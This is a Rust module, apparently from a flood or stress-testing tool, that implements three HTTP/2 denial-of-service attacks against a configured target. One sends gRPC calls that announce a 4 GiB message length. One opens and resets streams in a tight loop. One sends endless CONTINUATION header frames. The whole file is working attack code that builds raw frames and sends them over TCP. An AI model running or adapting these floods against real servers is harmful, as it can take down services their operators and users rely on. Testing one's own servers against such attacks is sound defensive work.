//! Frames of HTTP/2 in an order that no client has.

use std::io;

use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::time::Instant;

use super::flood::Attacker;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// Streams of one connection and one write.
const STREAMS: u32 = 50;

/// An announced length of 4 GiB, call after call.
pub async fn grpc_bombs(attacker: &Attacker) -> io::Result<()> {
    let mut stream = begin(attacker).await?;
    let head = head("/tideline.agent.v1.Agent/Send");
    for id in (1..).step_by(2).take(STREAMS as usize) {
        let bomb = [0, 0xff, 0xff, 0xff, 0xff, 0, 0, 0];
        let call = [frame(HEADERS, END_HEADERS, id, &head), frame(DATA, 0, id, &bomb)].concat();
        stream.write_all(&call).await?;
        attacker.did(1);
        take_answers(&mut stream)?;
    }
    Ok(())
}

/// Opened and taken back, as fast as can be written.
pub async fn rapid_reset(attacker: &Attacker) -> io::Result<()> {
    let mut stream = begin(attacker).await?;
    let head = head("/");
    let mut id = 1;
    while Instant::now() < attacker.until {
        let mut frames = Vec::new();
        for _ in 0..STREAMS {
            frames.extend(frame(HEADERS, END_HEADERS, id, &head));
            frames.extend(frame(RST_STREAM, 0, id, &CANCEL));
            id += 2;
        }
        stream.write_all(&frames).await?;
        attacker.did(STREAMS.into());
        take_answers(&mut stream)?;
    }
    Ok(())
}

/// A head without an end.
pub async fn continuation(attacker: &Attacker) -> io::Result<()> {
    let mut stream = begin(attacker).await?;
    stream.write_all(&frame(HEADERS, 0, 1, &head("/"))).await?;
    let more = frame(CONTINUATION, 0, 1, &field("x-more", &"a".repeat(1000)));
    while Instant::now() < attacker.until {
        stream.write_all(&more).await?;
        attacker.did(1);
        take_answers(&mut stream)?;
    }
    Ok(())
}

async fn begin(attacker: &Attacker) -> io::Result<TcpStream> {
    let mut stream = attacker.connect(attacker.target.plain).await?;
    stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()).await?;
    Ok(stream)
}

/// What has come is thrown away; the end of it is an error.
fn take_answers(stream: &mut TcpStream) -> io::Result<()> {
    let mut bytes = [0; 4096];
    loop {
        match stream.try_read(&mut bytes) {
            Ok(0) => return Err(io::ErrorKind::UnexpectedEof.into()),
            Ok(_) => {}
            Err(error) if error.kind() == io::ErrorKind::WouldBlock => return Ok(()),
            Err(error) => return Err(error),
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a short frame").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

fn head(path: &str) -> Vec<u8> {
    let fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "gateway"),
        ("content-type", "application/grpc"),
    ];
    fields.iter().flat_map(|(name, value)| field(name, value)).collect()
}

/// A literal that no table takes, name and value written out.
fn field(name: &str, value: &str) -> Vec<u8> {
    let mut bytes = vec![0x10];
    for text in [name, value] {
        crate::quic::integer(&mut bytes, 0, 7, text.len());
        bytes.extend_from_slice(text.as_bytes());
    }
    bytes
}
